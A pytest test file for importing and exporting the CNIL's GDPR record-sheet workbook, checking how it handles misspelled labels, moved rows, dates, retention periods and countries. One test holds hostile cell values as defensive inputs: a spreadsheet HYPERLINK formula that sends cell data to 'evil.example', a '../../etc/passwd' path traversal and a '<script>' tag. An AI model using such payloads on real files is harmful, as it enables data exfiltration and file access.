"""The CNIL's workbook: real ones and made ones, with rows dropped, moved, mistyped and hostile."""

import datetime as dt
import string

import attrs
import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from charte_registry import (
    CategorieDonnees,
    CategorieParticuliere,
    Conservation,
    Contact,
    Destinataire,
    Finalite,
    Infractions,
    MesureSecurite,
    Nir,
    Organisme,
    Register,
    Traitement,
    Transfert,
)
from charte_registry.exchange.exporters.cnil import cnil_pages
from charte_registry.exchange.exporters.spreadsheet import ods, xlsx
from charte_registry.exchange.importers.cnil import cnil_records, read_cnil
from charte_registry.exchange.importers.people import is_person
from charte_registry.exchange.importers.wording import (
    folded,
    nothing,
    parsed_conservation,
    parsed_date,
    slug,
)
from charte_registry.exchange.importers.workbook import Sheet, read_workbook
from charte_registry.exchange.remarks import PINNED
from charte_registry.vocabularies import modele_cnil, rgpd
from charte_registry.vocabularies.country_names import NAMES

CHOOSE = modele_cnil.A_CHOISIR
GUIDE = "► Données personnelles"

HEAD = [
    ["Modèle de fiche de registre à compléter", None, None, None, None, None, None, "ref-001", None, "Consulter les guides"],
    ["Description  du traitement  ", *[None] * 8, GUIDE],
]  # fmt: skip
PAIE = [
    ["Nom du traitement", "Gestion de la paie"],
    ["N° / RÉF", "rh-01"],
    ["Date de création du traitement", dt.date(2018, 5, 26)],
    ["Mise à jour du traitement", "13/05/2019"],
]
ACTEURS = [
    ["Acteurs", "Nom", "Adresse", "Code Postal", "Ville", "Pays", "Téléphone", "Adresse mél"],
    ["Responsable du traitement", "Ville d'Exemple", "1 place", 1000, "Bourg", "France", 474000000, "contact@example.org"],
    ["Délégué à la protection des données", "Martin HENRI", "1 place", 1000, "Bourg", "FRANCE", None, "dpo@example.org"],
    ["Société du DPO (si celui-ci est externe)", "N/A"],
]  # fmt: skip
FINALITES = [
    ["Finalité(s) du traitement effectué"],
    ["Finalité principale", "Payer les agents"],
    ["Sous-finalité 1", "Calculer les rémunérations"],
    ["Sous-finalité 2", None],
]
DONNEES = [
    ["Catégories de données personnelles concernées", "Description", None, None, "Durée de conservation"],
    ["État civil, identité, données d'identification, images…", "Nom", None, None, "5 ans à compter du versement"],
    ["Données de connexion (adress IP, logs, etc.)", "N/A"],
    ["Numéro de Sécurité Sociale (ou NIR)", "NIR", None, None, "5 ans"],
    ["Données sensibles", "Description", None, None, "Durée de conservation"],
    ["Données concernant la santé", "Arrêts", None, None, "jusqu'au départ"],
    ["Données relatives à des condamnations pénales ou  infractions", "Non"],
]  # fmt: skip
LISTES = [
    ["Catégories de personnes concernées", "Description", None, None, "Précisions"],
    ["Catégorie de personnes 1", "Salariés"],
    ["Catégorie de personnes 2", "Autres (préciser)", None, None, "Élus"],
    ["Catégorie de personnes 3", CHOOSE],
    ["Destinataires", "Type de destinataire", None, None, "Précisions"],
    ["Destinataire 1", "Sous-traitants", None, None, "Éditeur"],
    ["Mesures de sécurité", "Type de mesure de sécurité", None, None, "Précisions"],
    ["Mesure de sécurité 1", "Chiffrement des données", None, None, "AES"],
]
TRANSFERTS = [
    ["Transferts hors UE", "Destinataire", "Pays", "Type de Garanties", None, "Liens vers la documentation"],
    ["Organisme destinataire 1", "Éditeur", "Etats-Unis", "Privacy shield", None, "Contrat https://example.org/a"],
    ["Organisme destinataire 2", "Banque", "Andorre", "Pays adéquat"],
    ["Organisme destinataire 3", None, CHOOSE, CHOOSE],
]  # fmt: skip
PARTS = [PAIE, ACTEURS, FINALITES, DONNEES, LISTES, TRANSFERTS]


def sheet(*parts, name="Fiche"):
    rows = [row for part in parts for row in part]
    return Sheet(name=name, rows=tuple(tuple(row) for row in rows))


def read(*sheets, **options):
    return cnil_records(sheets, **options)


def only(found):
    (record,) = found.records["traitements"].values()
    return record


WHOLE = read(sheet(HEAD, *PARTS))


# What a sheet says


def test_a_record_sheet_is_read_whole():
    assert WHOLE.not_understood == ()
    paie = only(WHOLE)
    assert (paie.id, paie.nom, paie.reference) == ("rh-01", "Gestion de la paie", "rh-01")
    assert (paie.cree_le, paie.mis_a_jour_le) == (dt.date(2018, 5, 26), dt.date(2019, 5, 13))
    assert [f.nom for f in paie.finalites] == ["Payer les agents", "Calculer les rémunérations"]
    assert paie.categories_personnes == ("Salariés", "Élus")
    assert paie.categories == ("identite", "sante", "nir")
    assert paie.categories_donnees[0].conservation == Conservation(
        duree="P5Y", declencheur="versement"
    )
    assert paie.categories_particulieres[0].conservation == Conservation(critere="jusqu'au départ")
    assert paie.nir == Nir(description="NIR", conservation=Conservation(duree="P5Y"))
    assert paie.infractions is None
    assert paie.destinataires == (Destinataire(type="sous_traitant", nom="Éditeur"),)
    assert paie.securite == (MesureSecurite(type="chiffrement", description="AES"),)


def test_others_without_saying_which_are_no_category_and_are_reported():
    persons = [LISTES[0], ["Catégorie de personnes 1", "Autres (préciser)"], *LISTES[4:]]
    found = read(sheet(HEAD, PAIE, ACTEURS, persons))
    assert only(found).categories_personnes == ()
    (told,) = [r for r in found.not_understood if "Autres (préciser)" in r.message]
    assert "name them" in told.message


def test_adequacy_is_never_taken_from_the_sheet():
    american, andorran = only(WHOLE).transferts
    assert (american.pays, american.garantie, american.precision) == ("US", None, "Privacy shield")
    assert (andorran.pays, andorran.garantie, andorran.precision) == ("AD", None, "Pays adéquat")
    assert (american.liens, american.piece) == (("https://example.org/a",), "Contrat")
    told = [str(remark) for remark in WHOLE.of("understood_as")]
    assert sum("adequacy is computed at the date asked" in text for text in told) == 2


def test_bodies_are_no_persons_and_stand_once():
    ville, dpo = WHOLE.records["organismes"].values()
    assert (ville.nom, ville.dpo) == ("Ville d'Exemple", dpo.id)
    assert (dpo.nom, dpo.type, dpo.contact.nom) == (
        "Délégué à la protection des données",
        "fonction",
        "Martin HENRI",
    )
    assert only(WHOLE).dpo is None


def test_numbers_get_the_zero_back_that_they_lost():
    contact = WHOLE.records["organismes"]["ville-d-exemple"].contact
    assert (contact.code_postal, contact.telephone) == ("01000", "0474000000")
    abroad = [
        [*row[:5], "Belgique", *row[6:]] if row[0].startswith("Resp") else row for row in ACTEURS
    ]
    contact = read(sheet(HEAD, PAIE, abroad)).records["organismes"]["ville-d-exemple"].contact
    assert (contact.code_postal, contact.telephone, contact.pays) == ("1000", "474000000", "BE")


# Rows are found by their labels


@settings(max_examples=40)
@given(st.permutations(PARTS))
def test_sections_may_stand_in_any_order(parts):
    assert read(sheet(HEAD, *parts)).records == WHOLE.records


@settings(max_examples=40)
@given(st.sets(st.integers(0, 3)), st.integers(0, 3))
def test_blank_rows_and_columns_before_change_nothing(blanks, columns):
    rows = [row for part in PARTS for row in part]
    for place in sorted(blanks, reverse=True):
        rows.insert(place * 9, [])
    moved = [[None] * columns + row for row in [*HEAD, *rows]]
    assert read(sheet(moved)).records == WHOLE.records


@settings(max_examples=40)
@given(st.data())
def test_dropped_rows_take_only_what_they_said(data):
    kept = [row for part in (FINALITES, DONNEES, LISTES) for row in part]
    gone = data.draw(st.sets(st.integers(0, len(kept) - 1)))
    rows = [row for number, row in enumerate(kept) if number not in gone]
    found = read(sheet(HEAD, PAIE, ACTEURS, rows))
    assert found.not_understood == ()
    assert [f.nom for f in only(found).finalites] == [
        row[1] for row in rows if row[0].startswith(("Finalité p", "Sous")) and row[1]
    ]
    assert len(only(found).categories_personnes) == sum(
        row[0].startswith("Catégorie de p") and row[1] != CHOOSE for row in rows
    )


def spelled(label):
    return st.sampled_from([
        label, label.upper(), label.lower(), f"  {label}\xa0", label.replace(" ", "\n"),
        label.translate(str.maketrans("éÉèàô", "eEeao")), f"{label} :",
    ])  # fmt: skip


@settings(max_examples=60)
@given(st.data())
def test_labels_may_be_spelled_in_many_ways(data):
    rows = [[data.draw(spelled(row[0])), *row[1:]] for part in PARTS for row in part]
    assert read(sheet(HEAD, rows)).records == WHOLE.records


def test_a_label_with_a_slip_is_still_found():
    slips = {"Finalité principale": "Finalité principal", "Mise à jour du traitement": "Mise a jour du traitment",
             "Catégories de données personnelles concernées": "Catégories de données personelles concernées"}  # fmt: skip
    rows = [[slips.get(row[0], row[0]), *row[1:]] for part in PARTS for row in part]
    found = read(sheet(HEAD, rows))
    assert only(found).mis_a_jour_le == dt.date(2019, 5, 13)
    assert only(found).categories == ("identite", "sante", "nir")


def test_without_its_headers_a_section_has_the_model_s_columns():
    headers = {"Acteurs", "Destinataires", "Mesures de sécurité", "Transferts hors UE", "Données sensibles",
               "Catégories de personnes concernées"}  # fmt: skip
    rows = [row for part in PARTS for row in part if row[0] not in headers]
    assert read(sheet(HEAD, rows)).records == WHOLE.records


def test_columns_are_found_by_their_headers():
    swapped = [[row[0], *([None] * 3), row[4], row[1]] if len(row) > 4 else [row[0], None, None, None, None, *row[1:2]] for row in DONNEES]  # fmt: skip
    assert swapped[0][4:] == ["Durée de conservation", "Description"]
    assert (
        read(sheet(HEAD, PAIE, ACTEURS, FINALITES, swapped, LISTES, TRANSFERTS)).records
        == WHOLE.records
    )


# What is not understood is said, with its cell


@pytest.mark.parametrize(
    ("rows", "cell", "message"),
    [
        ([["Date de création du traitement", "un jour"]], "Fiche!B3", "'un jour' is not a date"),
        ([["Nom du traitement", "A", "B"]], "Fiche!C3", "'B': a second value for 'Nom du traitement'"),
        ([["Nom du traitement", "A"], ["Nom du traitement", "B"]], "Fiche!B4", "appears twice"),
        ([["Logiciel utilisé", "Astre"]], "Fiche!B3", "'Astre': no column leads there"),
        ([["Date de création du traitement", dt.date(1905, 7, 10)]], "Fiche!B3", "2018 is a year alone, in a cell of dates that shows 1905-07-10"),
        ([["Base légale", "parce que"]], "Fiche!B3", "'parce que' is not a legal basis"),
        ([*ACTEURS[:1], ["Responsable du traitement", "Ville", None, None, None, "Atlantide"]], "Fiche!A4", "no country has the name 'Atlantide'"),
        ([*ACTEURS[:1], ["Responsable du traitement", "Ville", *[None] * 5, "sans arobase"]], "Fiche!A4", "'sans arobase' is not an e-mail address"),
        ([*ACTEURS[:1], ["Hébergeur", "Nuage"]], "Fiche!B4", "the label 'Hébergeur' is unknown"),
        ([["Destinataires", "Type de destinataire", "Fréquence"], ["Destinataire 1", "Sous-traitants", "mensuelle"]], "Fiche!C4", "the column 'Fréquence' is unknown"),
        ([*TRANSFERTS[:1], ["Organisme destinataire 1", "Éditeur"]], "Fiche!A4", "a transfer whose country is not stated"),
        ([*TRANSFERTS[:1], ["Organisme destinataire 1", "Éditeur", "Maroc", "Dérogations (art 49)"]], "Fiche!A4", "names no safeguard of articles 46 to 49"),
        ([["Date de création du traitement", "13/05/2019"], ["Mise à jour du traitement", "12/05/2019"]], "Fiche!B4", "before 2019-05-13, its creation"),
    ],
)  # fmt: skip
def test_what_is_not_understood_is_said_with_its_cell(rows, cell, message):
    base = [
        ["N° / RÉF", "r"],
        ["Finalité principale", "F"],
        ["Sous-finalité 1", "S"],
        ["Destinataire 2", None],
    ]
    found = read(sheet(HEAD, rows, base))
    assert found.records["traitements"]
    (remark,) = [r for r in found.not_understood if message in r.message]
    assert remark.where == cell


def test_a_retention_without_a_unit_is_to_be_confirmed():
    rows = [DONNEES[0], ["État civil, identité, données d'identification, images…", "Nom", None, None, 5]]  # fmt: skip
    found = read(sheet(HEAD, PAIE, rows))
    assert only(found).categories_donnees[0].conservation == Conservation(critere="5")
    (told,) = [r for r in found.of("understood_as") if r.code == "no_unit_kept"]
    assert told.say("fr").endswith(
        "un nombre sans unité est gardé comme critère\xa0; écrivez 5 ans"
    )


def test_an_unknown_category_of_data_is_kept_as_other_data():
    found = read(
        sheet(HEAD, PAIE, DONNEES[:2], [["Données scolaires", "Classe", None, None, "1 an"]])
    )
    assert only(found).categories_donnees[1] == CategorieDonnees(
        categorie="autre", description="Données scolaires : Classe", conservation=Conservation(duree="P1Y")
    )  # fmt: skip
    assert any(
        "'Données scolaires' is read as a category of other data" in r.message
        for r in found.of("understood_as")
    )


def test_a_country_without_a_code_is_kept_as_written():
    found = read(
        sheet(
            HEAD,
            PAIE,
            TRANSFERTS[:1],
            [["Organisme destinataire 1", "B", "Kosovo"], ["x", "C", "Canada, Japon"]],
        )
    )
    assert [t.pays for t in only(found).transferts] == ["Kosovo", "CA", "JP"]
    assert any("no country has the name 'Kosovo'" in r.message for r in found.remarks)


def test_a_legal_basis_that_somebody_added_goes_to_the_purposes():
    found = read(sheet(HEAD, PAIE, FINALITES, [["Base légale", "Mission d'intérêt public"]]))
    assert {f.bases_legales for f in only(found).finalites} == {("mission_interet_public",)}


def test_a_list_value_that_is_none_of_the_list_is_other():
    found = read(sheet(HEAD, PAIE, LISTES[:1], [["Mesure de sécurité 1", "Vidéosurveillance"]]))
    assert only(found).securite == (MesureSecurite(type="autre", description="Vidéosurveillance"),)
    assert any("another type of measure" in r.message for r in found.of("understood_as"))


# Several sheets


def fiche(nom, reference, *more):
    return sheet(
        HEAD, [["Nom du traitement", nom], ["N° / RÉF", reference]], FINALITES, *more, name=nom
    )


def test_each_record_sheet_is_a_processing():
    found = read(fiche("Aides", "s-1", ACTEURS), fiche("État civil", "ec-1", ACTEURS))
    assert list(found.records["traitements"]) == ["s-1", "ec-1"]
    assert len(found.records["organismes"]) == 2


def test_a_reference_that_nobody_changed_names_no_processing():
    found = read(
        fiche("Aides", "ref-001"), fiche("État civil", "ref-001"), fiche("Aides", "ref-001")
    )
    assert list(found.records["traitements"]) == ["aides", "etat-civil", "aides-2"]
    assert any("stands on several sheets" in r.message for r in found.remarks)


def test_an_empty_record_sheet_and_others_are_left_aside():
    empty = sheet(
        HEAD,
        [[row[0], "ref-001" if row[0] == "N° / RÉF" else None] for part in PARTS for row in part],
    )
    found = read(empty, sheet([["Tutoriel"], ["Du texte"]], name="Tutoriel"), fiche("Aides", "a"))
    assert list(found.records["traitements"]) == ["a"]
    assert {(r.message, r.text) for r in found.of("skipped")} >= {
        ("a sheet that is neither a record sheet nor the list of processings", "Tutoriel"),
        ("a sheet that is neither a record sheet nor the list of processings", "Du texte"),
        ("a record sheet that nobody has filled in", "ref-001"),
    }


def test_the_filled_example_is_read_only_when_asked():
    example = fiche("Gestion de la paie", "1 - Exemple")
    assert not read(example, fiche("Aides", "a")).records["traitements"].keys() - {"a"}
    assert list(read(example, include_example=True).records["traitements"]) == ["1-exemple"]
    kept = fiche("Gestion d'une médiathèque exemplaire", "m-1")
    assert list(read(kept).records["traitements"]) == ["m-1"]


LISTE = [
    ["Coordonnées du responsable de l’organisme", "Nom :", "DUPONT", "Prénom :", "Louise", "Adresse :", "1 place", "Adresse mél : maire@example.org"],
    [None, "Code postal :", 44000, "Ville :", "Nantes", "Téléphone : 02"],
    ["Coordonnées du délégué à la protection des données (DPO)", "Nom :", None, "Prénom :", None, "Société (si DPO externe) :", "Conseil SAS"],
    ["Identification du traitement", None, None, None, "Finalité du traitement", None, None, "Données sensibles ?"],
    ["Nom du traitement", "N° / RÉF", "Date de création de la fiche", "Dernière mise à jour de la fiche", None, None, None, "Oui/non"],
    ["(EXEMPLE) Gestion de la paie", "1 - Exemple", dt.date(2018, 5, 26), None, "Payer", None, None, "Non"],
    ["Aides", "s-1", "01/02/2020", dt.date(2020, 3, 1), "Verser", None, None, "Oui"],
    ["Cimetières", "c-1", "hier", None, "Gérer les concessions", None, None, "Non"],
]  # fmt: skip


def test_the_list_completes_the_sheets_and_stands_for_those_that_are_missing():
    found = read(sheet(LISTE, name="Liste"), fiche("Aides", "s-1"))
    aides, cimetieres = found.records["traitements"].values()
    assert (aides.cree_le, aides.mis_a_jour_le) == (dt.date(2020, 2, 1), dt.date(2020, 3, 1))
    assert cimetieres.finalites == (Finalite(nom="Gérer les concessions"),)
    messages = [str(remark) for remark in found.remarks]
    assert any("Liste!A8: 'Cimetières' has no record sheet" in text for text in messages)
    assert any("Liste!A8: 'hier' is not a date" in text for text in messages)
    assert any("Liste!A7: 'Aides' is listed with sensitive data" in text for text in messages)


def test_who_the_list_names_answers_where_the_sheets_do_not_say():
    found = read(sheet(LISTE, name="Liste"), fiche("Aides", "s-1"))
    controller, dpo = found.records["organismes"].values()
    assert controller.nom == "Responsable du traitement"
    assert controller.contact == Contact(
        fonction="Responsable du traitement", nom="Louise DUPONT", adresse="1 place",
        code_postal="44000", ville="Nantes", telephone="02", courriel="maire@example.org",
    )  # fmt: skip
    assert (dpo.nom, controller.dpo) == ("Conseil SAS", "conseil-sas")
    named = read(sheet(LISTE, name="Liste"), fiche("Aides", "s-1"), responsable="Ville")
    assert named.records["organismes"]["ville"].contact.nom == "Louise DUPONT"


def test_without_any_name_the_controller_is_a_function():
    found = read(fiche("Aides", "s-1"))
    assert only(found).responsable == "responsable-du-traitement"
    assert any(
        "no controller is named; name the body with --responsable" in r.message
        for r in found.remarks
    )


@pytest.mark.parametrize(
    ("name", "person"),
    [
        ("Louise DUPONT", True), ("Jean-Marc Le Goff", True), ("Mme la Présidente", True), ("M. X", True),
        ("Ville de Nantes", False), ("Nantes Métropole", False), ("CCAS", False), ("Conseil Numérique SAS", False),
        ("Syndicat Mixte Ouvert", False), ("service des finances", False),
    ],
)  # fmt: skip
def test_who_may_be_a_person_is_taken_for_one(name, person):
    assert is_person(name) is person


# There and back


WORDS = st.text(string.ascii_letters + "éèàç ,;.()=+-@'\n", min_size=1, max_size=12).map(
    lambda text: "\n".join(filter(None, (" ".join(line.split()) for line in text.splitlines())))
)
TEXT = WORDS.filter(lambda t: folded(t) and not nothing(t) and folded(t) not in ("x", "oui"))
CONSERVATIONS = st.one_of(
    st.builds(
        Conservation,
        duree=st.sampled_from(["P5Y", "P1Y6M", "P30D", "P2W", "PT72H", "P0D", "P10Y"]),
        declencheur=st.none() | TEXT,
    ),
    st.builds(Conservation, critere=TEXT.filter(lambda t: "critere" in parsed_conservation(t))),
)
KEPT = {"description": st.none() | TEXT, "conservation": st.none() | CONSERVATIONS}


def several(strategy):
    return st.lists(strategy, max_size=4).map(tuple)


def grouped(cls, codes):
    """Parts in the order of the sheet, which has a place for each category."""
    order = list(modele_cnil.CATEGORIES)
    parts = st.lists(st.builds(cls, categorie=st.sampled_from(codes), **KEPT), max_size=4)
    return parts.map(
        lambda items: tuple(sorted(items, key=lambda item: order.index(item.categorie)))
    )


LABELLED = [c for c in rgpd.GARANTIES.codes if c != "decision_adequation"]
TRAITEMENTS = st.builds(
    Traitement,
    id=st.just("t"), nom=TEXT, responsable=st.just("ville"),
    reference=st.from_regex("[a-z]{1,5}-[0-9]{1,3}", fullmatch=True),
    finalites=several(st.builds(Finalite, nom=TEXT)),
    categories_personnes=several(TEXT),
    categories_donnees=grouped(CategorieDonnees, rgpd.CATEGORIES_ORDINAIRES.codes),
    categories_particulieres=grouped(CategorieParticuliere, rgpd.CATEGORIES_PARTICULIERES.codes),
    infractions=st.none() | st.builds(Infractions, **KEPT),
    nir=st.none() | st.builds(Nir, **KEPT),
    destinataires=several(st.builds(Destinataire, type=st.sampled_from(rgpd.DESTINATAIRES.codes), nom=st.none() | TEXT)),
    securite=several(st.builds(MesureSecurite, type=st.sampled_from(rgpd.MESURES.codes), description=st.none() | TEXT)),
    transferts=several(st.builds(
        Transfert, pays=st.sampled_from(sorted(NAMES)), destinataire=st.none() | TEXT,
        garantie=st.none() | st.sampled_from(LABELLED),
        liens=st.sampled_from([(), ("https://example.org/a",), ("https://example.org/a", "https://example.org/b")]),
        piece=st.none() | TEXT.map(lambda t: t.strip(" ,;\n")).filter(lambda t: folded(t) and not nothing(t)),
    )),
    cree_le=st.none() | st.dates(dt.date(1990, 1, 1), dt.date(2030, 1, 1)),
)  # fmt: skip
VILLE = Organisme(
    id="ville", nom="Ville d'Exemple", dpo="delegue-a-la-protection-des-donnees",
    contact=Contact(fonction="Responsable du traitement", courriel="contact@example.org", code_postal="01000", pays="FR"),
)  # fmt: skip
DPO = Organisme(
    id=VILLE.dpo, nom="Délégué à la protection des données", type="fonction",
    contact=Contact(fonction="Délégué à la protection des données", nom="Louise DUPONT", telephone="02 40 00 00 00"),
)  # fmt: skip


@pytest.mark.parametrize("write", [ods, xlsx])
@settings(max_examples=40)
@given(traitement=TRAITEMENTS)
def test_what_the_model_has_a_place_for_comes_back(tmp_path_factory, write, traitement):
    assume(all(len(str(v)) < 300 for v in (traitement.nom,)))
    bodies = {"ville": VILLE, DPO.id: DPO}
    records = {"organismes": bodies, "traitements": {"t": traitement}}
    register = Register(
        titre="R", territoire="T", etat_au=dt.date(2020, 12, 15), annees=(2020,), records=records
    )
    pages, remarks = cnil_pages(register)
    assert [str(r) for r in remarks] == []
    path = tmp_path_factory.mktemp("w") / "registre.bin"
    path.write_bytes(write(pages))
    found = read_cnil(path)
    ville, dpo = found.records["organismes"].values()
    assert (attrs.evolve(ville, id="ville"), dpo) == (VILLE, DPO)
    back = only(found)
    assert back.id == slug(traitement.reference)
    assert attrs.evolve(back, id="t", responsable="ville") == traitement
    assert found.not_understood == ()


def test_what_the_model_has_no_place_for_is_said(examples):
    traitement = Traitement(
        id="t", nom="T", responsable="ville", statut="projet", note="n", applications=("a",),
        finalites=(Finalite(nom="F", bases_legales=("contrat",)),),
        nir=Nir(texte="Décret"), transferts=(Transfert(organisation="EPO"),),
    )  # fmt: skip
    register = Register(
        titre="R", territoire="T", etat_au=dt.date(2020, 12, 15), annees=(2020,),
        records={"traitements": {"t": traitement}},
    )  # fmt: skip
    _, remarks = cnil_pages(register)
    assert {r.where for r in remarks} == {
        "traitements.nir.texte", "traitements.statut", "traitements.note",
        "traitements.finalites.bases_legales", "traitements.applications",
        "traitements.transferts.organisation",
    }  # fmt: skip


def test_hostile_cells_are_text_wherever_they_stand():
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    found = read(
        sheet(
            HEAD,
            [
                ["Nom du traitement", formula],
                ["N° / RÉF", "../../etc/passwd"],
                ["Finalité principale", "<script>"],
                ["Sous-finalité 1", "\x00\x07"],
            ],
        )
    )
    record = only(found)
    assert record.id == "etc-passwd"
    assert (record.nom, record.finalites[0].nom) == (formula, "<script>")
    register = Register(
        titre="R",
        territoire="T",
        etat_au=dt.date(2020, 12, 15),
        annees=(2020,),
        records=found.records,
    )
    for write in (ods, xlsx):
        content = write(cnil_pages(register)[0])
        assert content
    pages, _ = cnil_pages(register)
    assert formula in [cell for page in pages for row in page.rows for cell in row]


# Words


@pytest.mark.parametrize(
    ("text", "day"),
    [
        ("13/05/2019", (2019, 5, 13)), ("13/5/19", (2019, 5, 13)), ("13.05.2019", (2019, 5, 13)),
        ("13-05-2019", (2019, 5, 13)), ("2019-05-13", (2019, 5, 13)), ("2019-05-13 00:00:00", (2019, 5, 13)),
        ("le 13 mai 2019", (2019, 5, 13)), ("1er février 1998", (1998, 2, 1)), ("01/02/98", (1998, 2, 1)),
        (43598, (2019, 5, 13)), (dt.date(2019, 5, 13), (2019, 5, 13)),
        ("31/02/2019", None), ("13/13/2019", None), ("mai 2019", None), (12, None), (dt.date(1905, 7, 10), None), (dt.date(1905, 3, 13), (1905, 3, 13)),
        (dt.date(1905, 3, 14), None), (dt.date(1905, 9, 30), None), (dt.date(1905, 10, 1), (1905, 10, 1)), (True, None), (1.5, None), ("", None),
    ],
)  # fmt: skip
def test_dates_are_read_as_people_write_them(text, day):
    assert parsed_date(text) == (dt.date(*day) if day else None)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("5 ans", {"duree": "P5Y"}), ("Cinq ans.", {"duree": "P5Y"}), ("un an et 6 mois", {"duree": "P1Y6M"}),
        ("30 jours", {"duree": "P30D"}), ("72 heures", {"duree": "PT72H"}),
        ("5 ans après la fin du contrat", {"duree": "P5Y", "declencheur": "fin du contrat"}),
        ("10 ans à partir de l'acte", {"duree": "P10Y", "declencheur": "acte"}),
        ("5 ans puis archivage", {"critere": "5 ans puis archivage"}),
        ("2 ans et demi", {"critere": "2 ans et demi"}), ("5 antennes", {"critere": "5 antennes"}),
        ("6 mois et 2 ans", {"critere": "6 mois et 2 ans"}), ("durée légale", {"critere": "durée légale"}),
    ],
)  # fmt: skip
def test_retentions_are_durations_where_they_are(text, said):
    assert parsed_conservation(text) == said


# The model itself


@pytest.fixture
def model(real_data):
    return real_data / "cnil" / "registre_modele_cnil.ods"


def test_the_model_as_the_cnil_gives_it_holds_no_record(model):
    found = read_cnil(model)
    assert not any(found.records.values())
    sheets = read_workbook(model)
    cells = sum(cell is not None for sheet in sheets for row in sheet.rows for cell in row)
    aside = [r for r in found.of("skipped") if r.phrase != PINNED]
    assert 0 < len(aside) <= cells  # the list's own labels are no content
    assert found.not_understood == ()


def test_the_filled_example_of_the_model_is_read(model):
    found = read_cnil(model, include_example=True)
    assert found.not_understood == ()
    paie = only(found)
    assert (paie.id, paie.nom, paie.reference) == ("1-exemple", "Gestion de la paie", "1 - Exemple")
    assert (paie.cree_le, paie.mis_a_jour_le) == (dt.date(2018, 5, 26), dt.date(2019, 5, 13))
    assert len(paie.finalites) == 4
    assert paie.categories == ("identite", "economique_financiere", "nir")
    five_years = Conservation(duree="P5Y", declencheur="versement de la paie")
    assert {kept for _, _, kept in paie.conservations()} == {five_years}
    assert paie.categories_personnes == ("Salariés",)
    assert [d.type for d in paie.destinataires] == [
        "service_interne",
        "partenaire",
        "pays_tiers_organisation",
    ]
    assert [m.type for m in paie.securite] == [
        "protection_logiciels",
        "sauvegarde",
        "controle_acces",
    ]
    assert paie.transferts == (Transfert(
        pays="AD", destinataire="Banque d'Andorre", garantie="clauses_types_commission",
        piece="Contrat en date du 23/01/2018",
    ),)  # fmt: skip
    postcodes = {body.contact.code_postal for body in found.records["organismes"].values()}
    assert postcodes == {"75001"}
    names = {body.nom for body in found.records["organismes"].values()}
    assert names == {"Responsable du traitement", "Délégué à la protection des données"}


def test_every_country_of_the_model_but_kosovo_has_a_code(model):
    from charte_registry.exchange.importers.cnil.fiche import countries
    from charte_registry.exchange.importers.workbook import read_workbook

    rows = read_workbook(model)[-1].rows
    names = [row[2] for row in rows[2:] if len(row) > 2 and row[2]]
    assert [name for name in names if countries(name)[0] not in NAMES] == ["Kosovo"]


def test_the_lists_of_the_model_are_those_that_we_know(model):
    from charte_registry.exchange.importers.workbook import read_workbook

    rows = read_workbook(model)[-1].rows[2:]

    def column(number):
        return [row[number] for row in rows if len(row) > number and row[number]]

    assert column(0) == [*list(modele_cnil.GARANTIES)[:2], modele_cnil.PAYS_ADEQUAT, modele_cnil.PRIVACY_SHIELD,
                         *list(modele_cnil.GARANTIES)[2:], modele_cnil.DEROGATIONS]  # fmt: skip
    assert column(5) == [*modele_cnil.LISTE_PERSONNES, modele_cnil.AUTRES_PERSONNES]
    assert column(7) == list(modele_cnil.TYPES_DESTINATAIRE)
    assert column(9) == list(modele_cnil.TYPES_MESURE)


def test_the_example_comes_back_from_our_own_workbook(model, tmp_path):
    found = read_cnil(model, include_example=True)
    register = Register(
        titre="R",
        territoire="T",
        etat_au=dt.date(2020, 12, 15),
        annees=(2020,),
        records=found.records,
    )
    for write in (ods, xlsx):
        path = tmp_path / f"registre.{write.__name__}"
        path.write_bytes(write(cnil_pages(register)[0]))
        assert read_cnil(path, include_example=True).records == found.records
